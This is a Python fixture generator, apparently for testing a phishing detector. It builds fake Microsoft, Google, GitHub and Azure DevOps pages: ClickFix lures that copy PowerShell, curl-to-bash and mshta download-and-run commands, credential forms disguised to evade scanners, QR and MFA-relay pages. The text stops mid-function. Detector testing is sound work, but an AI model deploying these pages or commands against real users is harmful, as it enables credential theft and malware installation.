#!/usr/bin/env python3
"""Writes the fixtures of tests/corpus/redteam10.js under tests/fixtures/<host>/...

Run from the repository root: python3 tests/corpus/gen-redteam10.py
The QR codes are real (segno, pip install segno) and point off the provider.
"""

import base64
import html
import json
import os

import segno

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'fixtures')


def write(host, path, text):
    full = os.path.join(ROOT, host, path.lstrip('/'))
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, 'w', encoding='utf-8') as f:
        f.write(text)
    assert len(text.encode('utf-8')) < 200_000, full


def doc(title, body, style='', head='', lang='en'):
    return f"""<!doctype html>
<html lang="{lang}"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>{title}</title>{head}
<style>{style}</style></head>
<body>
{body}
</body></html>
"""


MS_LOGO = ('<svg class="logo" width="22" height="23" viewBox="0 0 22 23" aria-hidden="true">'
           '<rect x="0" y="1" width="10" height="10" fill="#f25022"/><rect x="11" y="1" width="10" height="10" fill="#7fba00"/>'
           '<rect x="0" y="12" width="10" height="10" fill="#00a4ef"/><rect x="11" y="12" width="10" height="10" fill="#ffb900"/></svg>')

MS_CSS = """
body{margin:0;font-family:"Segoe UI","Helvetica Neue",Arial,sans-serif;background:#f2f2f2 linear-gradient(135deg,#e8eef5,#f7f2ec);min-height:100vh}
.card{width:440px;max-width:92vw;margin:90px auto 0;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px;box-sizing:border-box}
.brand{display:flex;align-items:center;gap:8px;font-size:19px;color:#737373;font-weight:600;height:24px}
.brand .logo{width:22px;height:24px}
h1{font-size:24px;font-weight:600;color:#1b1b1b;margin:16px 0 12px}
.inp{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:none;margin:8px 0 14px;background:transparent;font-family:inherit}
.inp:focus{border-bottom-color:#0067b8}
.small{font-size:13px;color:#1b1b1b;margin:8px 0}
.small a,a{color:#0067b8;text-decoration:none}
.btns{display:flex;justify-content:flex-end;margin-top:24px;gap:8px}
.btn{background:#0067b8;color:#fff;border:0;min-width:108px;height:32px;font-size:15px;font-family:inherit;cursor:pointer}
.btn.sec{background:#ccc;color:#000}
.foot{position:fixed;bottom:0;right:0;font-size:12px;color:#333;padding:10px 16px}
.foot a{color:#333;margin-left:14px}
"""

GOOGLE_LOGO = ('<svg class="glogo" width="75" height="24" viewBox="0 0 75 24" aria-hidden="true">'
               '<circle cx="12" cy="12" r="9" fill="none" stroke="#4285f4" stroke-width="4" stroke-dasharray="14 4 14 4 20 100"/>'
               '<circle cx="32" cy="14" r="6" fill="none" stroke="#ea4335" stroke-width="3"/>'
               '<circle cx="48" cy="14" r="6" fill="none" stroke="#fbbc05" stroke-width="3"/>'
               '<rect x="60" y="4" width="3" height="18" fill="#34a853"/><circle cx="70" cy="14" r="5" fill="none" stroke="#ea4335" stroke-width="3"/></svg>')

GOOGLE_CSS = """
body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;background:#f0f4f9;min-height:100vh}
.card{width:450px;max-width:92vw;margin:80px auto 0;background:#fff;border-radius:28px;padding:36px 40px;box-sizing:border-box}
.brandrow{font-size:22px;color:#444;display:flex;gap:8px;align-items:center}
h1{font-size:32px;font-weight:400;color:#1f1f1f;margin:20px 0 8px}
.sub{font-size:16px;color:#1f1f1f;margin:0 0 28px}
.inp{width:100%;box-sizing:border-box;border:1px solid #747775;border-radius:4px;padding:15px;font-size:16px;margin:6px 0 10px;font-family:inherit}
a{color:#0b57d0;text-decoration:none;font-weight:500;font-size:14px}
.row{display:flex;justify-content:space-between;align-items:center;margin-top:36px}
.btn{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;font-size:14px;font-family:inherit;cursor:pointer}
.foot{width:450px;margin:12px auto;font-size:12px;color:#444;display:flex;justify-content:space-between}
"""

GH_MARK = ('<svg class="mark" height="48" width="48" viewBox="0 0 16 16" aria-hidden="true"><path fill="#1f2328" d="M8 0C3.58 0 0 3.58 0 8c0 3.54 2.29 6.53 5.47 7.59.4.07.55-.17.55-.38 0-.19-.01-.82-.01-1.49-2.01.37-2.53-.49-2.69-.94-.09-.23-.48-.94-.82-1.13-.28-.15-.68-.52-.01-.53.63-.01 1.08.58 1.23.82.72 1.21 1.87.87 2.33.66.07-.52.28-.87.51-1.07-1.78-.2-3.64-.89-3.64-3.95 0-.87.31-1.59.82-2.15-.08-.2-.36-1.02.08-2.12 0 0 .67-.21 2.2.82.64-.18 1.32-.27 2-.27.68 0 1.36.09 2 .27 1.53-1.04 2.2-.82 2.2-.82.44 1.1.16 1.92.08 2.12.51.56.82 1.27.82 2.15 0 3.07-1.87 3.75-3.65 3.95.29.25.54.73.54 1.48 0 1.07-.01 1.93-.01 2.2 0 .21.15.46.55.38A8.013 8.013 0 0016 8c0-4.42-3.58-8-8-8z"/></svg>')

GH_CSS = """
body{margin:0;font-family:-apple-system,BlinkMacSystemFont,"Segoe UI","Noto Sans",Helvetica,Arial,sans-serif;background:#f6f8fa;color:#1f2328;font-size:14px}
.top{text-align:center;padding:32px 0 16px}
h1{font-size:24px;font-weight:300;letter-spacing:-.5px;text-align:center;margin:0 0 16px}
.box{width:308px;margin:0 auto;background:#fff;border:1px solid #d1d9e0;border-radius:6px;padding:16px;box-sizing:border-box}
label{display:block;font-weight:600;margin:0 0 6px}
.inp{width:100%;box-sizing:border-box;border:1px solid #d1d9e0;border-radius:6px;padding:5px 12px;font-size:14px;line-height:20px;margin:0 0 16px;background:#f6f8fa}
.btn{width:100%;background:#1f883d;color:#fff;border:1px solid rgba(31,35,40,.15);border-radius:6px;padding:5px 16px;font-size:14px;font-weight:600;line-height:20px;cursor:pointer}
.alt{width:308px;margin:16px auto;border:1px solid #d1d9e0;border-radius:6px;padding:16px;text-align:center;box-sizing:border-box}
a{color:#0969da;text-decoration:none}
.flash{width:308px;margin:0 auto 16px;background:#fff8c5;border:1px solid #d4a72c66;border-radius:6px;padding:12px 16px;box-sizing:border-box}
"""

ADO_CSS = """
body{margin:0;font-family:"Segoe UI",-apple-system,Arial,sans-serif;background:#f8f8f8;color:#201f1e}
.bar{background:#0078d4;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;gap:10px;font-size:15px;font-weight:600}
.bar svg{width:22px;height:22px}
.panel{width:520px;max-width:94vw;margin:56px auto;background:#fff;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13),0 .3px .9px rgba(0,0,0,.11);border-radius:4px;padding:28px 32px;box-sizing:border-box}
h1{font-size:20px;font-weight:600;margin:0 0 12px}
.inp{width:100%;box-sizing:border-box;border:1px solid #8a8886;border-radius:2px;padding:7px 8px;font-size:14px;margin:4px 0 14px}
.btn{background:#0078d4;color:#fff;border:0;border-radius:2px;padding:8px 20px;font-size:14px;font-weight:600;cursor:pointer}
label{font-size:14px;font-weight:600}
.meta{font-size:13px;color:#605e5c;margin:0 0 18px}
"""
ADO_ICON = ('<svg viewBox="0 0 18 18" aria-hidden="true"><path fill="#fff" d="M17 4v9.74l-4 3.28-6.2-2.26V17l-3.51-4.59 10.23.8V4.44zm-3.41.49L7.85 1v2.29L2.58 4.84 1 6.87v4.61l2.26 1V6.57z"/></svg>')


def ms_page(title, brand, heading, inner, extra_css='', head='', script='', tail=''):
    body = f"""<main class="card">
  <div class="brand">{MS_LOGO}<span class="bname">{brand}</span></div>
  <h1>{heading}</h1>
  {inner}
</main>
<div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
{tail}
<script>{script}</script>"""
    return doc(title, body, MS_CSS + extra_css, head)


MS_FORM = """<form id="f" action="/next.php" method="post" autocomplete="off">
    <div class="small">{who}</div>
    <input class="inp" type="email" name="email" placeholder="Email, phone, or Skype" value="{email}">
    <input class="inp" type="password" name="pass" placeholder="Password">
    <div class="small"><a href="#">Forgot my password</a></div>
    <div class="btns"><button class="btn" type="submit">Sign in</button></div>
  </form>"""


def google_page(title, heading, sub, inner, extra_css='', script='', tail=''):
    body = f"""<main class="card">
  <div class="brandrow">{GOOGLE_LOGO}</div>
  <h1>{heading}</h1>
  <p class="sub">{sub}</p>
  {inner}
</main>
<div class="foot"><span>English (United States)</span><span><a href="#">Help</a> &nbsp; <a href="#">Privacy</a> &nbsp; <a href="#">Terms</a></span></div>
{tail}
<script>{script}</script>"""
    return doc(title, body, GOOGLE_CSS + extra_css)


def gh_page(title, heading, inner, extra_css='', script='', flash='', tail=''):
    body = f"""<div class="top">{GH_MARK}</div>
<h1>{heading}</h1>
{flash}
<div class="box">{inner}</div>
<div class="alt">New to GitHub? <a href="#">Create an account</a>.</div>
{tail}
<script>{script}</script>"""
    return doc(title, body, GH_CSS + extra_css)


GH_FORM = """<form id="f" action="/session" method="post">
  <label for="user">Username or email address</label>
  <input class="inp" type="text" name="user" id="user" autocapitalize="off">
  <label for="pw">Password</label>
  <input class="inp" type="password" name="pw" id="pw">
  <button class="btn" type="submit">Sign in</button>
</form>"""


def ado_page(title, heading, inner, extra_css='', script=''):
    body = f"""<header class="bar">{ADO_ICON}<span class="bname">Azure DevOps</span></header>
<main class="panel"><h1>{heading}</h1>{inner}</main>
<script>{script}</script>"""
    return doc(title, body, ADO_CSS + extra_css)


def js(s):
    # a JSON string literal that is safe inside <script> (no `</`)
    return json.dumps(s).replace('</', '<\\/')


# ---------------------------------------------------------------- family 1: ClickFix on a provider-styled card

CF_CSS = """
.steps{margin:14px 0;padding:0;list-style:none;counter-reset:s}
.steps li{counter-increment:s;margin:10px 0;font-size:15px;display:flex;gap:10px;align-items:center}
.steps li::before{content:counter(s);display:inline-flex;width:24px;height:24px;border-radius:50%;background:#0067b8;color:#fff;justify-content:center;align-items:center;font-size:13px;flex:none}
kbd{border:1px solid #999;border-bottom-width:2px;border-radius:4px;padding:1px 6px;font-family:Consolas,monospace;background:#f7f7f7;font-size:13px}
.capt{display:flex;align-items:center;gap:12px;border:1px solid #d3d3d3;background:#f9f9f9;border-radius:3px;padding:14px;margin:14px 0;width:280px;box-shadow:0 0 4px #0001}
.capt .box{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}
.capt small{margin-left:auto;font-size:10px;color:#555;text-align:center}
.note{font-size:12px;color:#605e5c;margin-top:10px}
"""


def clip(cmd):
    return f"navigator.clipboard.writeText({js(cmd)}).catch(()=>{{}})"


PS = 'powershell -w hidden -nop -c "iex (iwr -UseBasicParsing https://cdn-verify-edge.com/c/{tag}).Content" # ✅ I am not a robot - reCAPTCHA Verification ID: {n}'


def fam1():
    # Microsoft "verify you are human" card: Win+R, Ctrl+V, Enter, the command copied on click
    cmd = PS.format(tag='m365', n='8841')
    write('access-check-portal.com', '/index.html', ms_page(
        'Verify you are human', 'Microsoft', 'Verify you are human',
        f"""<p class="small">Unusual traffic was detected from your network. To continue to your Microsoft 365 documents, complete the verification below.</p>
  <div class="capt"><div class="box" id="cb" onclick="{html.escape(clip(cmd))};document.getElementById('steps').hidden=false"></div><span>I'm not a robot</span><small>reCAPTCHA<br>Privacy - Terms</small></div>
  <div id="steps" hidden><b>Verification steps</b><ol class="steps">
    <li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol></div>
  <p class="note">Ray ID: 8f2c19ab44e1 · Performance &amp; security by Microsoft Defender</p>""",
        extra_css=CF_CSS, script="setTimeout(()=>{document.getElementById('steps').hidden=false},1200)"))
    # Word Online "extension not installed": open PowerShell as administrator and paste
    cmd = PS.format(tag='word', n='2207')
    write('docs-viewer-online.net', '/index.html', ms_page(
        'Word Online', 'Microsoft', 'Word Online: the document could not be displayed',
        f"""<p class="small">The “Word Online” extension is not installed in your browser. To view <b>Q4_Remittance_Advice.docx</b> offline, install the extension.</p>
  <div class="btns" style="justify-content:flex-start"><button class="btn" onclick="{html.escape(clip(cmd))};document.getElementById('how').hidden=false">How to fix</button><button class="btn sec">Auto-fix</button></div>
  <div id="how" hidden><ol class="steps"><li>Right-click the Start button and choose <b>Windows PowerShell (Admin)</b></li>
  <li>Right-click inside the window to paste the fix we copied for you</li><li>Press <kbd>Enter</kbd> and reload this page</li></ol></div>""",
        extra_css=CF_CSS))
    # Google Meet microphone error: Win+X, Terminal, paste
    cmd = PS.format(tag='meet', n='5120')
    write('meet-join-room.net', '/xcd-jpqw-rbn/index.html', google_page(
        'Meet – xcd-jpqw-rbn', 'Problem with your microphone', 'Google Meet could not start your microphone and camera.',
        f"""<ol class="steps"><li>Click <b>Try fix</b> to copy the fix</li><li>Press <kbd>Windows</kbd> + <kbd>X</kbd>, then choose <b>Terminal</b></li>
  <li>Paste with <kbd>Ctrl</kbd> + <kbd>V</kbd> and press <kbd>Enter</kbd></li></ol>
  <div class="row"><a href="#">Learn more</a><button class="btn" onclick="{html.escape(clip(cmd))}">Try fix</button></div>""",
        extra_css=CF_CSS.replace('#0067b8', '#0b57d0')))
    # Google reCAPTCHA for macOS: Cmd+Space, Terminal, paste
    cmd = 'curl -fsSL https://cdn-verify-edge.com/m/install.sh | bash # Google reCAPTCHA verification 3391'
    write('drive-preview-share.com', '/file/d/1xQ9/view/index.html', google_page(
        'Google Drive – verify', 'Verify it’s you', 'Before opening “Budget_2027.xlsx”, Google needs to verify you are not a robot.',
        f"""<div class="capt"><div class="box" onclick="{html.escape(clip(cmd))}"></div><span>I'm not a robot</span><small>reCAPTCHA<br>Privacy - Terms</small></div>
  <b>To finish verification on your Mac</b><ol class="steps"><li>Press <kbd>⌘</kbd> + <kbd>Space</kbd>, type <b>Terminal</b></li>
  <li>Press <kbd>⌘</kbd> + <kbd>V</kbd> to paste the verification code</li><li>Press <kbd>Return</kbd></li></ol>""",
        extra_css=CF_CSS.replace('#0067b8', '#0b57d0')))
    # GitHub Security "verify you are human" (the github-scanner campaign)
    cmd = 'mshta https://repo-scan-alerts.com/verify.hta # ✅ GitHub verification 4412'
    write('repo-scan-alerts.com', '/index.html', gh_page(
        'GitHub Security | Verify You Are Human', 'GitHub Security',
        f"""<p><b>Verify you are human</b> to see the vulnerability report for your repository.</p>
  <div class="capt"><div class="box" onclick="{html.escape(clip(cmd))}"></div><span>I'm not a robot</span></div>
  <ol class="steps"><li>Press <kbd>Win</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>""",
        extra_css=CF_CSS.replace('#0067b8', '#1f883d'),
        flash='<div class="flash">Security alert: a vulnerability was found in one of your repositories.</div>'))
    # Azure DevOps "agent verification": open a terminal and paste
    cmd = 'powershell -nop -w h -c "irm https://agentpool-verify.net/a.ps1 | iex" # Azure Pipelines agent check'
    write('agentpool-verify.net', '/northwind/_settings/agentqueues/index.html', ado_page(
        'Agent pools - Settings', 'Verify your self-hosted agent',
        f"""<p class="meta">Your organization requires every self-hosted Azure Pipelines agent to be verified before the next run of <b>northwind-ci</b>.</p>
  <ol><li>Click <b>Copy verification command</b></li><li>Open <b>PowerShell</b> on the agent machine (<kbd>Win</kbd> + <kbd>X</kbd>, <b>Terminal</b>)</li><li>Paste and press <kbd>Enter</kbd></li></ol>
  <button class="btn" onclick="{html.escape(clip(cmd))}">Copy verification command</button>"""))


# ---------------------------------------------------------------- family 2: a sign-in form inside SVG <foreignObject>

XMS_FORM = """<form action="/next.php" method="post"><div class="small">{who}</div>
<input class="inp" type="email" name="email" placeholder="Email, phone, or Skype"/>
<input class="inp" type="password" name="pass" placeholder="Password"/>
<div class="btns"><button class="btn" type="submit">Sign in</button></div></form>"""


def svg_doc(width, height, css, inner, title):
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%" viewBox="0 0 {width} {height}">
<title>{title}</title>
<style><![CDATA[{css}]]></style>
<rect width="100%" height="100%" fill="#f2f2f2"/>
<foreignObject x="0" y="0" width="{width}" height="{height}">
<div xmlns="http://www.w3.org/1999/xhtml" class="wrap">{inner}</div>
</foreignObject>
</svg>
"""


def fam2():
    ms_inner = f"""<div class="card"><div class="brand">{MS_LOGO}<span>Microsoft</span></div><h1>Sign in</h1>
{XMS_FORM.format(who='You received a secure voicemail (0:47). Sign in to listen.')}</div>"""
    write('voice-message-center.com', '/att/Voicemail_0047.svg', svg_doc(1100, 760, MS_CSS, ms_inner, 'Sign in to your account'))
    g_inner = f"""<div class="card"><div class="brandrow">{GOOGLE_LOGO}</div><h1>Sign in</h1><p class="sub">to continue to Google Drive</p>
<form action="/v3/verify" method="post"><input class="inp" type="email" name="email" placeholder="Email or phone"/>
<input class="inp" type="password" name="password" placeholder="Enter your password"/>
<div class="row"><a href="#">Forgot password?</a><button class="btn" type="submit">Next</button></div></form></div>"""
    write('sheet-share-viewer.net', '/att/Payroll_Q4.svg', svg_doc(1100, 760, GOOGLE_CSS, g_inner, 'Sign in - Google Accounts'))
    ado_inner = f"""<div class="bar">{ADO_ICON}<span>Azure DevOps</span></div><div class="panel"><h1>Sign in to Azure DevOps</h1>
<p class="meta">Pull request !4821 needs your review. Sign in with your work account.</p>
<form action="/approve" method="post"><label>Work email</label><input class="inp" type="email" name="email"/>
<label>Password</label><input class="inp" type="password" name="password"/><button class="btn">Sign in</button></form></div>"""
    write('pr-review-notice.dev', '/att/PR_4821.svg', svg_doc(1100, 760, ADO_CSS, ado_inner, 'Azure DevOps'))
    # inline SVG in an HTML page, GitHub
    gh_inner = f"""<div class="top">{GH_MARK}</div><h1>Sign in to GitHub</h1><div class="box">
<form action="/session" method="post"><label>Username or email address</label><input class="inp" type="text" name="user"/>
<label>Password</label><input class="inp" type="password" name="pw"/><button class="btn" type="submit">Sign in</button></form></div>"""
    write('release-notes-viewer.dev', '/index.html', doc('Sign in to GitHub', f"""<svg width="1100" height="760" viewBox="0 0 1100 760" style="display:block;margin:0 auto">
<foreignObject x="0" y="0" width="1100" height="760"><div xmlns="http://www.w3.org/1999/xhtml">{gh_inner}</div></foreignObject></svg>""", GH_CSS))
    # inline SVG, Microsoft, scaled by a viewBox and a transform
    write('fax-inbox-secure.com', '/index.html', doc('Microsoft 365', f"""<svg width="100%" height="760" viewBox="0 0 550 380" preserveAspectRatio="xMidYMin meet">
<g transform="translate(20 10)"><foreignObject x="0" y="0" width="510" height="360"><div xmlns="http://www.w3.org/1999/xhtml" style="zoom:.5">
<div class="card"><div class="brand">{MS_LOGO}<span>Microsoft</span></div><h1>Sign in</h1>{XMS_FORM.format(who='2 pages received by fax. Sign in to view.')}</div></div></foreignObject></g></svg>""", MS_CSS))


# ---------------------------------------------------------------- family 3: the password in a field that is not <input type=password>

def fam3():
    # Google: textarea masked with -webkit-text-security
    write('gdocs-share-review.com', '/index.html', google_page(
        'Sign in - Google Accounts', 'Welcome', 'alex.morgan@northwind.example',
        """<form id="f" action="/v3/verify" method="post"><textarea class="inp ta" name="Passwd" rows="1" placeholder="Enter your password" spellcheck="false" autocomplete="off"></textarea>
  <label style="font-size:14px"><input type="checkbox" onclick="document.querySelector('.ta').classList.toggle('show')"> Show password</label>
  <div class="row"><a href="#">Forgot password?</a><button class="btn" type="submit">Next</button></div></form>""",
        extra_css='.ta{resize:none;overflow:hidden;height:54px;-webkit-text-security:disc;font-family:inherit}.ta.show{-webkit-text-security:none}'))
    # Google: plain textarea with transparent text, bullets drawn over it by script
    write('workspace-docs-verify.net', '/index.html', google_page(
        'Sign in - Google Accounts', 'Welcome', 'Verify it’s you to continue to Google Docs',
        """<form id="f" action="/v3/verify" method="post"><div style="position:relative"><textarea class="inp ta" name="pw" rows="1" spellcheck="false"></textarea>
  <div class="dots" aria-hidden="true">Enter your password</div></div>
  <div class="row"><a href="#">Try another way</a><button class="btn" type="submit">Next</button></div></form>""",
        extra_css='.ta{resize:none;height:54px;color:transparent;caret-color:#1f1f1f;font-family:inherit}.dots{position:absolute;left:16px;top:22px;color:#5f6368;pointer-events:none;letter-spacing:2px}',
        script="const t=document.querySelector('.ta'),d=document.querySelector('.dots');t.addEventListener('input',()=>{d.textContent=t.value?'•'.repeat(t.value.length):'Enter your password'})"))
    # Google: a contenteditable div masked with -webkit-text-security, copied into a hidden field on submit
    write('gmail-storage-notice.com', '/index.html', google_page(
        'Sign in - Google Accounts', 'Welcome', 'Your Gmail storage is full. Sign in to keep receiving mail.',
        """<form id="f" action="/v3/verify" method="post"><input class="inp" type="email" name="email" placeholder="Email or phone">
  <div class="inp ce" contenteditable="true" data-placeholder="Enter your password"></div><input type="hidden" name="p" id="p">
  <div class="row"><a href="#">Forgot password?</a><button class="btn" type="submit">Next</button></div></form>""",
        extra_css='.ce{min-height:22px;-webkit-text-security:disc}.ce:empty::before{content:attr(data-placeholder);color:#5f6368;-webkit-text-security:none}',
        script="document.getElementById('f').addEventListener('submit',()=>{document.getElementById('p').value=document.querySelector('.ce').textContent})"))
    # Microsoft: textarea masked
    write('o365-mailbox-upgrade.com', '/index.html', ms_page(
        'Sign in to your account', 'Microsoft', 'Enter password',
        """<form id="f" action="/next.php" method="post"><div class="small">← adele.vance@contoso.example</div>
  <textarea class="inp ta" name="passwd" rows="1" placeholder="Password" spellcheck="false"></textarea>
  <div class="small"><a href="#">Forgot my password</a></div><div class="btns"><button class="btn" type="submit">Sign in</button></div></form>""",
        extra_css='.ta{resize:none;overflow:hidden;height:32px;-webkit-text-security:disc}'))
    # GitHub: contenteditable password
    write('org-access-review.dev', '/index.html', gh_page(
        'Sign in to GitHub', 'Sign in to GitHub',
        """<form id="f" action="/session" method="post"><label>Username or email address</label><input class="inp" type="text" name="user">
  <label>Password</label><div class="inp ce" contenteditable="true"></div><input type="hidden" name="pw" id="pw">
  <button class="btn" type="submit">Sign in</button></form>""",
        extra_css='.ce{min-height:20px;-webkit-text-security:disc}',
        flash='<div class="flash">Your access to <b>northwind-labs</b> expires today. Sign in to keep it.</div>',
        script="document.getElementById('f').addEventListener('submit',()=>{document.getElementById('pw').value=document.querySelector('.ce').textContent})"))


# ---------------------------------------------------------------- family 4: scan this QR code to sign in (no field on the page)

def qr_svg(url, scale=5):
    return segno.make(url, error='m').svg_inline(scale=scale, border=2)


def qr_matrix(url):
    return [''.join('1' if c else '0' for c in row) for row in segno.make(url, error='m').matrix]


def fam4():
    write('account-signin-qr.com', '/index.html', google_page(
        'Sign in - Google Accounts', 'Sign in with your phone', 'Scan this QR code with your phone’s camera to sign in to your Google Account',
        f"""<div style="text-align:center">{qr_svg('https://account-signin-qr.com/m/7f3a9c')}</div>
  <p style="font-size:14px;color:#444">Open the camera on your Android phone or iPhone, point it at the code and tap the link. This code expires in 2 minutes.</p>
  <div class="row"><a href="#">Use another account</a><a href="#">Having trouble?</a></div>"""))
    m = qr_matrix('https://g-verify-device.net/q/31b8')
    write('g-verify-device.net', '/index.html', google_page(
        'Google Account', 'Verify it’s you', 'For your security, scan the code with the phone you use for your Google Account.',
        """<canvas id="qr" width="230" height="230" style="display:block;margin:0 auto"></canvas>
  <p style="font-size:14px;color:#444;text-align:center">Waiting for your phone…</p>""",
        script=f"const M={js(m)};const c=document.getElementById('qr').getContext('2d');const s=Math.floor(230/(M.length+4));c.fillStyle='#fff';c.fillRect(0,0,230,230);c.fillStyle='#000';M.forEach((r,y)=>[...r].forEach((b,x)=>{{if(b==='1')c.fillRect((x+2)*s,(y+2)*s,s,s)}}))"))
    png = segno.make('https://docs-access-scan.com/s/a91', error='m').png_data_uri(scale=5, border=2)
    write('docs-access-scan.com', '/index.html', google_page(
        'Google Docs – access', 'Scan to open this document', '“Severance_Agreement_2027.pdf” was shared with you. Scan the QR code with your phone to sign in and open it.',
        f"""<div style="text-align:center"><img src="{png}" alt="QR code" width="200" height="200"></div>
  <p style="font-size:13px;color:#444;text-align:center">Protected by Google Workspace</p>"""))
    write('mfa-rereg-notice.com', '/index.html', ms_page(
        'Microsoft Authenticator', 'Microsoft', 'Re-register Microsoft Authenticator',
        f"""<p class="small">Your organization requires you to re-register multi-factor authentication by today. Open the Microsoft Authenticator app, tap <b>+</b>, choose <b>Work or school account</b> and scan this code.</p>
  <div style="text-align:center">{qr_svg('https://mfa-rereg-notice.com/enroll/5c2e')}</div>
  <div class="btns"><button class="btn">Next</button></div>"""))
    write('gh-mobile-login.dev', '/index.html', gh_page(
        'Sign in to GitHub', 'Sign in with GitHub Mobile',
        f"""<p>Scan the code with the <b>GitHub Mobile</b> app to sign in on this device.</p><div style="text-align:center">{qr_svg('https://gh-mobile-login.dev/pair/77aa', 4)}</div>
  <p style="font-size:12px;color:#59636e">Don’t have GitHub Mobile? <a href="#">Download it</a></p>"""))


# ---------------------------------------------------------------- family 5: only the second-factor stage of a relayed sign-in

def fam5():
    write('login-session-verify.com', '/common/SAS/ProcessAuth/index.html', ms_page(
        'Sign in to your account', 'Microsoft', 'Approve sign in request',
        """<div class="small">adele.vance@contoso.example</div>
  <p class="small">Open your Authenticator app, and enter the number shown to sign in.</p>
  <div style="font-size:40px;font-weight:600;text-align:center;margin:18px 0">47</div>
  <p class="small">No numbers in your app? Make sure to upgrade to the latest version.</p>
  <div class="small"><a href="#">I can't use my Microsoft Authenticator app right now</a></div>""",
        script="setInterval(()=>fetch('/poll').catch(()=>{}),4000)"))
    write('accounts-signin-check.com', '/signin/challenge/dp/index.html', google_page(
        'Google Accounts', 'Check your phone', 'Google sent a notification to your Pixel 8. Tap <b>Yes</b> on the notification, then tap <b>62</b> on your phone to verify it’s you.',
        """<div style="font-size:44px;text-align:center;margin:12px 0">62</div>
  <div class="row"><label style="font-size:14px"><input type="checkbox" checked> Don’t ask again on this device</label><a href="#">Try another way</a></div>"""))
    write('g2sv-code-confirm.net', '/signin/challenge/totp/index.html', google_page(
        'Google Accounts', '2-Step Verification', 'To help keep your account safe, Google wants to make sure it’s really you trying to sign in',
        """<form id="f" action="/v3/totp" method="post"><p style="font-size:14px">Get a verification code from the <b>Google Authenticator</b> app</p>
  <input class="inp" type="tel" name="totpPin" inputmode="numeric" autocomplete="one-time-code" placeholder="Enter code" maxlength="6">
  <div class="row"><a href="#">Try another way</a><button class="btn" type="submit">Next</button></div></form>"""))
    write('repo-session-verify.dev', '/sessions/two-factor/app/index.html', gh_page(
        'Two-factor authentication', 'Two-factor authentication',
        """<form id="f" action="/sessions/two-factor" method="post"><label for="otp">Authentication code</label>
  <input class="inp" type="text" name="app_otp" id="otp" inputmode="numeric" autocomplete="one-time-code" placeholder="XXXXXX" maxlength="6">
  <button class="btn" type="submit">Verify</button><p style="font-size:12px;color:#59636e">Open your two-factor authenticator (TOTP) app or browser extension to view your authentication code.</p></form>"""))


# ---------------------------------------------------------------- family 6: the form where a DOM walker does not look

def fam6():
    card = f"""<style>{MS_CSS.replace('body{', ':host{display:block;').replace('min-height:100vh', '')}</style><main class="card">
  <div class="brand">{MS_LOGO}<span>Microsoft</span></div><h1>Sign in</h1>{MS_FORM.format(who='Your password expires today. Sign in to keep it.', email='')}</main>"""
    write('it-password-expiry.com', '/index.html', doc('Sign in to your account', '<ms-card></ms-card>', 'body{margin:0;background:#eef2f6}',
        head=f"""<script>customElements.define('ms-card',class extends HTMLElement{{constructor(){{super();this.attachShadow({{mode:'closed'}}).innerHTML={js(card)}}}}})</script>"""))
    gform = """<style>.inp{width:100%;box-sizing:border-box;border:1px solid #747775;border-radius:4px;padding:15px;font-size:16px;margin:6px 0 10px}.btn{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;font-size:14px;float:right}</style>
<form action="/v3/verify" method="post"><input class="inp" type="email" name="identifier" placeholder="Email or phone"><input class="inp" type="password" name="Passwd" placeholder="Enter your password"><button class="btn">Next</button></form>"""
    write('drive-quota-alert.com', '/index.html', google_page(
        'Sign in - Google Accounts', 'Sign in', 'to continue to Google Drive', '<g-form></g-form>',
        script=f"customElements.define('g-form',class extends HTMLElement{{constructor(){{super();this.attachShadow({{mode:'closed'}}).innerHTML={js(gform)}}}}})"))
    # GitHub: the page writes its own HTML into a blob: URL and goes there
    inner = gh_page('Sign in to GitHub', 'Sign in to GitHub', GH_FORM,
                    flash='<div class="flash">You have been invited to <b>octo-platform/deploy-keys</b>.</div>')
    write('invite-accept-portal.dev', '/index.html', doc('Loading…', '<p>Loading…</p>', '',
        head=f"<script>location.replace(URL.createObjectURL(new Blob([{js(inner)}],{{type:'text/html'}})))</script>"))
    # Microsoft: the whole card in a data: iframe over an empty page
    card_doc = ms_page('Sign in to your account', 'Microsoft', 'Sign in', MS_FORM.format(who='Sign in to view the shared file “Bonus_2027.xlsx”.', email=''))
    b64 = base64.b64encode(card_doc.encode()).decode()
    write('sharedfile-preview.net', '/index.html', doc('OneDrive', f'<iframe src="data:text/html;base64,{b64}" style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>', 'body{margin:0}'))
    # Azure DevOps: a sandboxed srcdoc iframe (opaque origin)
    ado_doc = ado_page('Sign in', 'Sign in to Azure DevOps',
                       '<p class="meta">The release <b>prod-west-2027.03</b> needs your approval.</p><form action="/approve" method="post"><label>Work email</label><input class="inp" type="email" name="email"><label>Password</label><input class="inp" type="password" name="password"><button class="btn">Sign in</button></form>')
    write('release-approvals.io', '/index.html', doc('Azure DevOps', f'<iframe sandbox="allow-forms allow-scripts" srcdoc="{html.escape(ado_doc)}" style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>', 'body{margin:0}'))


# ---------------------------------------------------------------- family 7: brand and heading drawn on a canvas

def fam7():
    draw_ms = """const c=document.getElementById('hd'),x=c.getContext('2d');
[['#f25022',0,0],['#7fba00',11,0],['#00a4ef',0,11],['#ffb900',11,11]].forEach(([f,a,b])=>{x.fillStyle=f;x.fillRect(a,b+2,10,10)});
